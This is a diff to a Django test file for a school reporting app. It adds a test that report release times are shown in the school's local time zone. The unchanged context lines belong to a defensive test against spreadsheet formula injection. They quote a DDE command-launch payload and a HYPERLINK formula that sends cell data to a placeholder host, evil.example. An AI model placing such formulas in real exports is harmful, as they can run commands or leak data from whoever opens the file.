@@ -5,7 +5,9 @@ import io
 import pytest
 from django.conf import settings
 from django.db import connection
+from django.template.defaultfilters import date as date_filter
 from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
 
 from tests import factories
 from tests.reports.scenarios import closed_cycle, release
@@ -206,3 +208,15 @@ def test_no_cell_of_an_export_can_run_as_a_formula(
     assert "'=cmd|' /C calc'!A0" in cells
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_a_district_administrator_reads_report_times_in_the_schools_zone(
+    client_for, school, district_admin, clock
+):
+    made = release(school.district)
+    page = client_for(district_admin).get(f"/reports/schools/{school.pk}/").text
+    in_school = timezone.localtime(made.released_at, school.zone)
+    in_utc = timezone.localtime(made.released_at, datetime.UTC)
+    # At the suite's instant: Sunday 11:30 p.m. in Chicago, not Monday 5:30 a.m. in UTC.
+    assert f"Released {date_filter(in_school, 'l, M j, g:i a')}" in page
+    assert f"Released {date_filter(in_utc, 'l, M j, g:i a')}" not in page
